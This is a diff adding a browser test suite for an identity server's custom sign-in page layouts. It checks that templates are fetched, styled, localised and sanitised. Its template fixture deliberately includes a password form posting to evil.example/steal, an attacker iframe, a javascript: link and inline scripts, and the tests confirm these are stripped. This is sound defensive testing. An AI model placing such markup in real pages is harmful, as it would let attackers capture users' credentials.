@@ -1,0 +1,232 @@
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import { join } from 'node:path';
+import type { Browser } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { finishFlow, newPage as newBrowserPage, startFlow as startBrowserFlow, type Flow } from '../helpers/browser-flow.js';
+import { launchBrowser, startRelyingParty, type RelyingParty } from '../helpers/browser.js';
+import { freePort } from '../helpers/ports.js';
+import { startServer, type TestServer } from '../helpers/server.js';
+
+/**
+ * B2C's custom page layouts, as a team moving off B2C uses them: the same template URLs (here served by
+ * a local HTTP server standing in for their storage account), in headless Chromium.
+ */
+const OUTPUT = join(import.meta.dirname, '..', '..', 'test-results');
+
+/** The customer's template: B2C's contract (an HTML5 page with `<div id="api">`), plus things that must go. */
+const TEMPLATE = `<!DOCTYPE html>
+<html>
+<head>
+  <title>Contoso sign-in</title>
+  <link rel="stylesheet" href="../styles/contoso.css">
+  <script>document.documentElement.dataset.headScript = 'ran';</script>
+</head>
+<body>
+  <header class="brand"><img src="../img/logo.svg" alt="Contoso"></header>
+  <form action="https://evil.example/steal" method="post"><input name="password"></form>
+  <iframe src="https://evil.example/frame"></iframe>
+  <div id="api">This text is replaced by the form.</div>
+  <a href="javascript:alert(1)" id="bad-link">bad</a>
+  <p onclick="document.body.dataset.clicked = 'yes'" id="handler">handler</p>
+  <script>document.body.dataset.bodyScript = 'ran';</script>
+</body>
+</html>`;
+
+const CSS = `body { background-color: rgb(10, 20, 30); font-family: sans-serif; color: #222; margin: 0; }
+.brand { padding: 16px 24px; }
+.brand img { width: 40px; height: 40px; }
+#api { background: #fff; max-width: 420px; margin: 24px auto; padding: 24px 32px; border-radius: 8px; }
+#api h1 { font-size: 22px; margin: 0 0 8px; }
+#api h2 { font-size: 15px; color: #555; }
+#api label { display: block; font-weight: 600; margin-top: 12px; }
+#api input.textInput { width: 100%; padding: 8px; box-sizing: border-box; border: 1px solid #999; border-radius: 4px; }
+#api ul { list-style: none; padding: 0; }
+#api .buttons { margin-top: 16px; display: flex; gap: 8px; }
+#api button { padding: 8px 20px; border-radius: 4px; border: 1px solid #999; background: #fff; }
+#api #next { background-color: rgb(200, 0, 0); color: #fff; border: 0; }
+#api button.link { background: none; border: 0; color: rgb(0, 90, 200); text-decoration: underline; padding: 0; }
+li.TextBox.givenName_li label { color: rgb(0, 128, 0); }`;
+
+interface TemplateServer {
+  url: string;
+  requests: string[];
+  close(): Promise<void>;
+}
+
+async function startTemplateServer(): Promise<TemplateServer> {
+  const requests: string[] = [];
+  const server: Server = createServer((req, res) => {
+    const path = new URL(req.url ?? '/', 'http://x').pathname;
+    requests.push(path);
+    if (/^\/(en|de|fr|es|nl)\/unified\.html$/.test(path)) {
+      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(TEMPLATE);
+    } else if (path === '/no-api.html') {
+      res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><html><head><title>x</title></head><body><div id="main"></div></body></html>');
+    } else if (path === '/styles/contoso.css') {
+      res.writeHead(200, { 'content-type': 'text/css' }).end(CSS);
+    } else if (path === '/img/logo.svg') {
+      res.writeHead(200, { 'content-type': 'image/svg+xml' }).end('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><rect width="1" height="1" fill="#0a5"/></svg>');
+    } else {
+      res.writeHead(404).end();
+    }
+  });
+  const port = await freePort();
+  await new Promise<void>((r) => server.listen(port, '127.0.0.1', () => r()));
+  return { url: `http://127.0.0.1:${port}`, requests, close: () => new Promise((r) => server.close(() => r())) };
+}
+
+let s: TestServer;
+let rp: RelyingParty;
+let browser: Browser;
+let templates: TemplateServer;
+let appId: string;
+let deadPort: number;
+
+function writePolicy(id: string, extra: Record<string, unknown>): void {
+  const base = JSON.parse(readFileSync(join(s.dir, 'policies', 'demo', 'B2C_1_signupsignin.json'), 'utf8')) as Record<string, unknown>;
+  writeFileSync(join(s.dir, 'policies', 'demo', `${id}.json`), JSON.stringify({ ...base, id, ...extra }));
+}
+
+async function waitForPolicy(id: string): Promise<void> {
+  for (let i = 0; i < 100; i++) {
+    if ((await fetch(`${s.baseUrl}/demo/${id}/v2.0/.well-known/openid-configuration`)).status === 200) return;
+    await new Promise((r) => setTimeout(r, 50));
+  }
+  throw new Error(`policy ${id} did not load`);
+}
+
+function startFlow(policy: string, extra: Record<string, string> = {}): Promise<Flow> {
+  return startBrowserFlow({ baseUrl: s.baseUrl, policy, clientId: appId, redirectUri: `${rp.url}/cb`, extra });
+}
+
+beforeAll(async () => {
+  s = await startServer();
+  rp = await startRelyingParty();
+  browser = await launchBrowser();
+  templates = await startTemplateServer();
+  deadPort = await freePort();
+  appId = (await s.createApp({ name: 'app', type: 'native', redirectUris: [`${rp.url}/cb`] })).app.clientId;
+  // A self-asserted layout given as a file in the tenant's folder, with its stylesheet beside it.
+  const layouts = join(s.dir, 'policies', 'demo', 'layouts');
+  mkdirSync(layouts, { recursive: true });
+  writeFileSync(join(layouts, 'selfasserted.html'), TEMPLATE.replace('../styles/contoso.css', 'contoso.css').replace('../img/logo.svg', 'logo.svg'));
+  writeFileSync(join(layouts, 'contoso.css'), CSS);
+  writeFileSync(join(layouts, 'logo.svg'), '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><rect width="1" height="1"/></svg>');
+  writePolicy('B2C_1_branded', {
+    signUp: { verifyEmail: false, attributes: [{ claim: 'given_name', label: 'Given name', required: true }] },
+    ui: {
+      pageLayouts: {
+        unifiedssp: `${templates.url}/{Culture:RFC5646}/unified.html`,
+        selfasserted: 'layouts/selfasserted.html',
+      },
+    },
+  });
+  writePolicy('B2C_1_branded_js', { ui: { pageLayouts: { unifiedssp: { template: `${templates.url}/en/unified.html`, javaScript: true } } } });
+  writePolicy('B2C_1_branded_down', { ui: { pageLayouts: { unifiedssp: `http://127.0.0.1:${deadPort}/unified.html` } } });
+  for (const id of ['B2C_1_branded', 'B2C_1_branded_js', 'B2C_1_branded_down']) await waitForPolicy(id);
+});
+
+afterAll(async () => {
+  await browser?.close();
+  await rp?.close();
+  await templates?.close();
+  await s?.close();
+});
+
+describe('custom page layouts', () => {
+  it("puts the form with B2C's ids in the template's #api, applies its CSS, strips its form, frames and scripts, and signs in", async () => {
+    const user = await s.createUser('lay@example.com', 'lay-password-1');
+    const flow = await startFlow('B2C_1_branded');
+    const { context, page } = await newBrowserPage(browser);
+    await page.goto(flow.url.toString());
+    // The template fetched server-side, in the page's language ({Culture:RFC5646} → en).
+    expect(templates.requests).toContain('/en/unified.html');
+    await expect(page.title()).resolves.toBe('Contoso sign-in');
+    for (const id of ['localAccountForm', 'signInName', 'password', 'next', 'forgotPassword', 'createAccount', 'cancel']) {
+      expect(await page.locator(`#api #${id}`).count(), id).toBe(1);
+    }
+    expect(await page.locator('#api .intro').count()).toBeGreaterThan(0);
+    expect(await page.locator('#api').getAttribute('data-name')).toBe('Unified');
+    expect(await page.locator('html').getAttribute('lang')).toBe('en');
+    // The template's stylesheet (relative URL resolved against the template's) styles B2C's ids.
+    expect(await page.evaluate("getComputedStyle(document.querySelector('#next')).backgroundColor")).toBe('rgb(200, 0, 0)');
+    expect(await page.evaluate('getComputedStyle(document.body).backgroundColor')).toBe('rgb(10, 20, 30)');
+    await page.evaluate("new Promise((r) => { const img = document.querySelector('.brand img'); if (img.complete) r(); else img.onload = r; })");
+    expect(await page.evaluate("document.querySelector('.brand img').naturalWidth")).toBeGreaterThan(0);
+    // What could take the page over is gone: the template's form, iframe, scripts, handlers, javascript: links.
+    expect(await page.locator('form[action*="evil"]').count()).toBe(0);
+    expect(await page.locator('iframe').count()).toBe(0);
+    expect(await page.evaluate('[document.documentElement.dataset.headScript, document.body.dataset.bodyScript]')).toEqual([undefined, undefined]);
+    expect(await page.locator('#handler').getAttribute('onclick')).toBeNull();
+    expect(await page.locator('#bad-link').getAttribute('href')).toBeNull();
+    expect(await page.locator('#api').textContent()).not.toContain('This text is replaced');
+    mkdirSync(OUTPUT, { recursive: true });
+    await page.screenshot({ path: join(OUTPUT, 'page-layout-unifiedssp.png'), fullPage: true });
+
+    await page.getByLabel('Email Address').fill('lay@example.com');
+    await page.getByLabel('Password').fill('lay-password-1');
+    await page.getByRole('button', { name: 'Sign in' }).click();
+    expect((await finishFlow(page, flow)).claims()!.oid).toBe(user.id);
+    await context.close();
+  });
+
+  it("uses a file template for the self-asserted pages, its assets served from the tenant's folder", async () => {
+    const flow = await startFlow('B2C_1_branded');
+    const { context, page } = await newBrowserPage(browser);
+    await page.goto(flow.url.toString());
+    await page.getByRole('button', { name: 'Sign up now' }).click();
+    expect(await page.locator('#api').getAttribute('data-name')).toBe('SelfAsserted');
+    await page.getByLabel('Email Address').fill('new-lay@example.com');
+    await page.getByRole('button', { name: 'Continue' }).click();
+    expect(await page.locator('#api #attributeList li.TextBox.givenName_li #givenName').count()).toBe(1);
+    expect(await page.locator('#api #attributeList li.Password.newPassword_li #newPassword').count()).toBe(1);
+    expect(await page.evaluate("getComputedStyle(document.querySelector('li.TextBox.givenName_li label')).color")).toBe('rgb(0, 128, 0)');
+    await page.screenshot({ path: join(OUTPUT, 'page-layout-selfasserted.png'), fullPage: true });
+    // An error is announced on the field, inside the template.
+    await page.getByRole('button', { name: 'Create' }).click();
+    expect(await page.locator('#api .error.itemLevel[role=alert]').count()).toBeGreaterThan(0);
+    await page.getByLabel('New Password', { exact: true }).fill('lay-password-2');
+    await page.getByLabel('Confirm New Password').fill('lay-password-2');
+    await page.getByLabel('Given name').fill('Lay');
+    await page.getByRole('button', { name: 'Create' }).click();
+    const tokens = await finishFlow(page, flow);
+    expect(tokens.claims()!.given_name).toBe('Lay');
+    await context.close();
+  });
+
+  it("keeps the template's head scripts when the policy enables JavaScript, allowed by hash, and still drops body scripts", async () => {
+    const flow = await startFlow('B2C_1_branded_js');
+    const { context, page } = await newBrowserPage(browser);
+    const res = await page.goto(flow.url.toString());
+    expect(res!.headers()['content-security-policy']).toMatch(/script-src 'self' 'sha256-[A-Za-z0-9+/=]+'/);
+    expect(await page.evaluate('[document.documentElement.dataset.headScript, document.body.dataset.bodyScript]')).toEqual(['ran', undefined]);
+    await context.close();
+  });
+
+  it('falls back to the default layout when the template cannot be fetched, and the page still works', async () => {
+    const user = await s.createUser('down@example.com', 'down-password-1');
+    const flow = await startFlow('B2C_1_branded_down');
+    const { context, page } = await newBrowserPage(browser);
+    await page.goto(flow.url.toString());
+    expect(await page.locator('link[href="/static/latchkey.css"]').count()).toBe(1);
+    expect(await page.locator('main #api #localAccountForm').count()).toBe(1);
+    expect(s.logs.some((l) => l.msg === 'page layout unavailable: pages use the default layout' && String(l.template).includes(String(deadPort)))).toBe(true);
+    await page.getByLabel('Email Address').fill('down@example.com');
+    await page.getByLabel('Password').fill('down-password-1');
+    await page.getByRole('button', { name: 'Sign in' }).click();
+    expect((await finishFlow(page, flow)).claims()!.oid).toBe(user.id);
+    await context.close();
+  });
+
+  it('fetches the template in the language the app asks for', async () => {
+    const flow = await startFlow('B2C_1_branded', { ui_locales: 'de-AT de' });
+    const { context, page } = await newBrowserPage(browser);
+    await page.goto(flow.url.toString());
+    expect(templates.requests).toContain('/de/unified.html');
+    expect(await page.locator('html').getAttribute('lang')).toBe('de');
+    await expect(page.locator('#next').textContent()).resolves.toBe('Anmelden');
+    await expect(page.locator('label[for=signInName]').textContent()).resolves.toBe('E-Mail-Adresse');
+    await context.close();
+  });
+});
